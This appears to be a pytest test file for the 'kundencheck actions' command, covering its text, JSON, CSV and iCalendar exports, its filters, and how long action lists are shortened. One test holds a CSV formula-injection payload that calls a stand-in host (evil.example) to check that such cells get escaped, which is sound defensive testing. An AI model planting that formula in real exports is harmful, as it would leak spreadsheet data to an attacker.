"""`kundencheck actions` on real repositories (text, JSON, CSV, iCalendar, filters), and how
`status`, `check` and the reports keep long lists of actions short."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import subprocess
import sys
from pathlib import Path

import icalendar
from click.testing import CliRunner

from kundencheck.cli import main
from kundencheck.core.answers import Action, ActionReview
from kundencheck.core.history import thread_id
from kundencheck.store.git_store import GitStore
from tests.support.history import ANA, CET, JONAS, base_answers, commit_run

TODAY = ("--today", "2026-04-10")


def invoke(repo: Path, *args: str):
    return CliRunner().invoke(main, ["-C", str(repo), *args], catch_exceptions=False, env={"COLUMNS": "200"})


def raw(repo: Path, *args: str) -> bytes:
    """The command's standard output as bytes, from the console script itself."""
    result = subprocess.run(
        [sys.executable, "-m", "kundencheck", "-C", str(repo), *args], capture_output=True, check=False, timeout=120
    )
    assert result.returncode == 0, result.stderr.decode()
    return result.stdout


def ids(history_repo) -> dict[str, str]:
    runs = history_repo["runs"]
    return {
        "book": thread_id(runs["ana2"].id, "client-contacted"),
        "talk": thread_id(runs["ana3"].id, "team-mood"),
        "send": thread_id(runs["ana3"].id, "client-contacted"),
    }


# ------------------------------------------------------------------------------ the list


def test_text_lists_the_open_threads_most_overdue_first(history_repo):
    result = invoke(history_repo["path"], "actions", *TODAY)
    assert result.exit_code == 0, result.output
    known = ids(history_repo)
    out = result.output
    assert out.startswith("kundencheck actions of Shop | relaunch on 2026-04-10: 3 open, 2 overdue\n")
    assert (
        f"⚠ {known['book']}  due 2026-03-20, 21 days overdue · Ana · build/client-contacted\n"
        "    Book a review\n"
        "    raised 2026-03-16 by Ana Schäfer · 1 review\n"
    ) in out
    assert out.index(known["book"]) < out.index(known["talk"]) < out.index(known["send"])
    assert f"  {known['send']}  due 2026-04-30 · Ana · build/client-contacted" in out


def test_filters_by_phase_owner_me_and_lateness(history_repo):
    repo = history_repo["path"]

    def listed(*args: str) -> list[str]:
        result = invoke(repo, "actions", "--format", "json", *TODAY, *args)
        assert result.exit_code == 0, result.output
        return [a["what"] for a in json.loads(result.output)["actions"]]

    assert listed() == ["Book a review", "Talk about workload", "Send the summary"]
    assert listed("--overdue") == ["Book a review", "Talk about workload"]
    assert listed("--owner", "LEA") == ["Talk about workload"]
    assert listed("--phase", "design") == []
    # --mine: the owner names the git user of this clone (Jonas Berg, the last to commit).
    assert listed("--mine") == []
    subprocess.run(["git", "-C", str(repo), "config", "user.name", "Lea Yıldız"], check=True)
    subprocess.run(["git", "-C", str(repo), "config", "user.email", "lea@example.com"], check=True)
    assert listed("--mine") == ["Talk about workload"]
    refused = invoke(repo, "actions", "--owner", "ana", "--mine")
    assert refused.exit_code == 2 and "either --owner WHO or --mine" in refused.output
    bad = invoke(repo, "actions", "--phase", "../x")
    assert bad.exit_code == 2 and "not a phase name" in bad.output
    document = json.loads(invoke(repo, "actions", "--format", "json", "--owner", "ana", *TODAY).output)
    assert document["schema"] == 1 and document["today"] == "2026-04-10"
    assert document["filter"] == {"phase": None, "owner": "ana", "mine": False, "overdue": False}


def test_csv_is_rfc_4180_utf8_with_english_headers(history_repo):
    repo = history_repo["path"]
    data = raw(repo, "actions", "--format", "csv", *TODAY)
    text = data.decode("utf-8")
    assert not text.startswith("\ufeff") and text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    known = ids(history_repo)
    assert [r["id"] for r in rows] == [known["book"], known["talk"], known["send"]]
    book = rows[0]
    assert list(book) == [
        "id",
        "phase",
        "item",
        "question",
        "what",
        "owner",
        "due",
        "overdue",
        "days_overdue",
        "raised_on",
        "raised_by",
        "actions",
        "reviews",
        "last_review",
        "first_run",
        "latest_run",
    ]
    assert (book["what"], book["owner"], book["due"], book["overdue"], book["days_overdue"]) == (
        "Book a review",
        "Ana",
        "2026-03-20",
        "true",
        "21",
    )
    assert (book["raised_by"], book["reviews"], book["last_review"]) == ("Ana Schäfer", "1", "open")
    assert rows[2]["overdue"] == "false"


def test_csv_cells_a_spreadsheet_would_run_get_an_apostrophe(history_repo):
    repo = history_repo["path"]
    formula = '=HYPERLINK("http://evil.example/?"&A1,"details")'
    _commit_more(
        repo,
        history_repo["checklist"],
        [("expectations-match", Action(formula, "+Ana", dt.date(2026, 5, 1)))],
        when=dt.datetime(2026, 4, 1, 9, 0, tzinfo=CET),
        sprint="2026-W14",
    )
    rows = list(csv.DictReader(io.StringIO(raw(repo, "actions", "--format", "csv", *TODAY).decode("utf-8"), newline="")))
    row = next(r for r in rows if r["item"] == "expectations-match")
    assert (row["what"], row["owner"]) == ("'" + formula, "'+Ana")


def _commit_more(
    repo: Path,
    checklist,
    actions: list[tuple[str, Action]],
    *,
    reviews=(),
    who=JONAS,
    when=dt.datetime(2026, 4, 13, 9, 0, tzinfo=CET),
    sprint="2026-W16",
):
    answers = {a.item: a for a in base_answers("green", 4, "green")}
    for item, action in actions:
        answers[item].value = "red" if item != "team-mood" else 2
        answers[item].note = "why"
        answers[item].action = action
    with GitStore.open(repo) as store:
        return commit_run(store, checklist, who, sprint, when, list(answers.values()), reviews=reviews)


def test_ics_parses_has_the_rfc_essentials_and_stable_uids_that_update(history_repo):
    repo, runs = history_repo["path"], history_repo["runs"]
    known = ids(history_repo)
    first = raw(repo, "actions", "--format", "ics", *TODAY)
    calendar = icalendar.Calendar.from_ical(first)
    # RFC 5545 essentials: VERSION and PRODID on the calendar; UID, DTSTAMP (UTC) and DTSTART as a
    # date on every event; CRLF line ends and lines of at most 75 octets.
    assert calendar["VERSION"] == "2.0" and str(calendar["PRODID"]).startswith("-//kundencheck//")
    assert first.startswith(b"BEGIN:VCALENDAR\r\n") and first.endswith(b"END:VCALENDAR\r\n")
    assert all(len(line) <= 75 for line in first.split(b"\r\n"))
    events = calendar.walk("VEVENT")
    for event in events:
        assert event["UID"] and event["DTSTAMP"].dt.tzinfo is not None
        start = event["DTSTART"].dt
        assert isinstance(start, dt.date) and not isinstance(start, dt.datetime)
        assert event["DTSTART"].params.get("VALUE") == "DATE"
        assert event["DTEND"].dt == start + dt.timedelta(days=1)
    by_uid = {str(e["UID"]): e for e in events if e.get("STATUS") != "CANCELLED"}
    book_uid = f"action-{runs['ana2'].id}-client-contacted@kundencheck"
    check_uid = f"check-build-{runs['ana1'].id}@kundencheck"
    # The two threads closed in March are there as cancelled events (a calendar takes them off).
    cancelled = {str(e["UID"]) for e in events if e.get("STATUS") == "CANCELLED"}
    assert cancelled == {
        f"action-{runs['ana1'].id}-client-contacted@kundencheck",
        f"action-{runs['jonas1'].id}-team-mood@kundencheck",
    }
    assert set(by_uid) == {
        book_uid,
        f"action-{runs['ana3'].id}-team-mood@kundencheck",
        f"action-{runs['ana3'].id}-client-contacted@kundencheck",
        check_uid,
    }
    book = by_uid[book_uid]
    assert book["DTSTART"].dt == dt.date(2026, 3, 20) and f"action {known['book']}" in str(book["SUMMARY"])
    assert "Book a review (Ana)" in str(book["SUMMARY"]) and "Did we speak with the client" in str(book["DESCRIPTION"])
    assert by_uid[check_uid]["DTSTART"].dt == dt.date(2026, 4, 13)
    assert "the build check is due" in str(by_uid[check_uid]["SUMMARY"])
    # The same history another day: the same file (nothing in it depends on the day but dates).
    assert raw(repo, "actions", "--format", "ics", "--today", "2026-04-11") == first
    # A new word on the thread: the same UID, a later date, a higher SEQUENCE and DTSTAMP.
    checklist = history_repo["checklist"]
    _commit_more(repo, checklist, [("team-mood", Action("Retro with the team", "Lea", dt.date(2026, 4, 24)))])
    # Read as of that run's day: a run more than a day after "today" is from a clock that ran
    # ahead and left out (docs/history.md, "Time").
    again = {
        str(e["UID"]): e
        for e in icalendar.Calendar.from_ical(raw(repo, "actions", "--format", "ics", "--today", "2026-04-13")).walk("VEVENT")
        if e.get("STATUS") != "CANCELLED"
    }
    talk_uid = f"action-{runs['ana3'].id}-team-mood@kundencheck"
    assert set(again) == set(by_uid)
    assert again[talk_uid]["DTSTART"].dt == dt.date(2026, 4, 24)
    assert int(again[talk_uid]["SEQUENCE"]) > int(by_uid[talk_uid]["SEQUENCE"])
    assert again[talk_uid]["DTSTAMP"].dt > by_uid[talk_uid]["DTSTAMP"].dt
    assert again[check_uid]["DTSTART"].dt == dt.date(2026, 4, 27)  # the new run moved the next check
    # The thread is done: its event stays with the same UID, cancelled, with a higher SEQUENCE.
    _commit_more(
        repo,
        checklist,
        [],
        reviews=[ActionReview(runs["ana2"].id, "client-contacted", "done")],
        when=dt.datetime(2026, 4, 9, 9, 0, tzinfo=CET),
        sprint="2026-W15",
    )
    after = {
        str(e["UID"]): e for e in icalendar.Calendar.from_ical(raw(repo, "actions", "--format", "ics", *TODAY)).walk("VEVENT")
    }
    assert after[book_uid]["STATUS"] == "CANCELLED" and after[talk_uid]["STATUS"] == "CONFIRMED"
    assert int(after[book_uid]["SEQUENCE"]) > int(by_uid[book_uid]["SEQUENCE"])
    # Long after, closed threads are no longer in the file.
    later = icalendar.Calendar.from_ical(raw(repo, "actions", "--format", "ics", "--today", "2026-09-01"))
    assert book_uid not in {str(e["UID"]) for e in later.walk("VEVENT")}
    # One person's calendar has no due checks (they are the team's).
    mine = icalendar.Calendar.from_ical(raw(repo, "actions", "--format", "ics", "--owner", "ana", *TODAY))
    assert {str(e["UID"]): str(e["STATUS"]) for e in mine.walk("VEVENT")} == {
        f"action-{runs['ana3'].id}-client-contacted@kundencheck": "CONFIRMED",
        book_uid: "CANCELLED",
        f"action-{runs['ana1'].id}-client-contacted@kundencheck": "CANCELLED",
    }


# ------------------------------------------------------------------------------ long lists


def _many_threads(history_repo, count: int) -> Path:
    """``count`` more open threads in build (separate actions on client-contacted, due one a day)."""
    repo, checklist = history_repo["path"], history_repo["checklist"]
    for n in range(count):
        when = dt.datetime(2026, 4, 1, 9, 0, tzinfo=CET) + dt.timedelta(minutes=n)
        _commit_more(
            repo,
            checklist,
            [("client-contacted", Action(f"Task {n}", "Ana", dt.date(2026, 3, 21) + dt.timedelta(days=n), separate=True))],
            who=ANA,
            when=when,
            sprint="2026-W14",
        )
    return repo


def test_status_check_and_reports_list_a_handful_per_phase(history_repo):
    repo = _many_threads(history_repo, 8)  # 11 open threads in build, 10 of them overdue on 2026-04-10
    known = ids(history_repo)
    status = invoke(repo, "status", *TODAY).output
    assert "Actions of build: 11 open, ⚠ 10 overdue" in status
    listed = re.findall(r"^  [⚠ ] ([a-z2-9]{6}) ", status, flags=re.MULTILINE)
    assert len(listed) == 5 and listed[0] == known["book"]
    assert "  and 6 more: kundencheck actions --phase build" in status
    # Its check findings, in check's words, list the same few overdue actions.
    findings = status.split("Check findings for build:")[1]
    assert findings.count("overdue action (overdue_action): build/") == 5
    assert "… overdue action: and 5 more: kundencheck actions --phase build" in findings
    # status --json lists them all.
    assert len(json.loads(invoke(repo, "status", "--json", *TODAY).output)["open_actions"]) == 11
    # check: five overdue findings shown, the rest counted; JSON has every finding.
    check = invoke(repo, "check", *TODAY)
    assert check.output.count("overdue action (overdue_action): build/") == 5
    assert "overdue action: and 5 more: kundencheck actions --phase build" in check.output
    # All counted: 10 overdue, a red without action, 2 disagreements, 2 red key signals and a red streak.
    assert "failed, 16 errors" in check.output
    document = json.loads(invoke(repo, "check", "--format", "json", *TODAY).output)
    assert sum(f["rule"] == "overdue_action" for f in document["findings"]) == 10
    github = invoke(repo, "check", "--format", "github", *TODAY).output
    assert github.count("title=kundencheck%3A overdue action::") == 5
    assert "::notice title=kundencheck::overdue action: and 5 more: kundencheck actions --phase build" in github
    # The reports: five open threads listed per phase and the rest counted; JSON lists them all.
    markdown = invoke(repo, "report", "--sprint", "2026-W14", *TODAY).output
    # The headline counts them all, and lists the same five with how many more.
    assert "  - ✘ overdue action (10), since 2026-03-21\n" in markdown
    found = markdown.split("### What the check found")[1].split("Legend:")[0]
    assert found.count("✘ overdue action (overdue\\_action): build/") == 5
    assert "- … overdue action: and 5 more: kundencheck actions --phase build" in found
    open_part = markdown.split("### Open")[1].split("###")[0]
    assert open_part.count("\n- `") == 5 and "- and 6 more: kundencheck actions --phase build" in open_part
    html = invoke(repo, "report", "--sprint", "2026-W14", "--format", "html", *TODAY).output
    assert html.split("<h3>Open</h3>")[1].split("</ul>")[0].count("<li data-action=") == 5
    report = json.loads(invoke(repo, "report", "--sprint", "2026-W14", "--format", "json", *TODAY).output)
    assert len(report["actions"]["open"]) == 11
    assert report["actions"]["listed"]["open"] == [{"phase": "build", "ids": listed, "more": 6}]


def test_a_review_of_a_later_action_of_a_thread_closes_it(history_repo):
    repo, runs, checklist = history_repo["path"], history_repo["runs"], history_repo["checklist"]
    joined = _commit_more(repo, checklist, [("team-mood", Action("Retro with the team", "Lea", dt.date(2026, 4, 24)))])
    # The review names the second action of the thread: the whole thread is done.
    _commit_more(
        repo,
        checklist,
        [],
        reviews=[ActionReview(joined.id, "team-mood", "done")],
        when=dt.datetime(2026, 4, 27, 9, 0, tzinfo=CET),
        sprint="2026-W18",
    )
    listed = json.loads(invoke(repo, "actions", "--format", "json", "--today", "2026-04-27").output)["actions"]
    assert thread_id(runs["ana3"].id, "team-mood") not in [a["id"] for a in listed] and len(listed) == 2
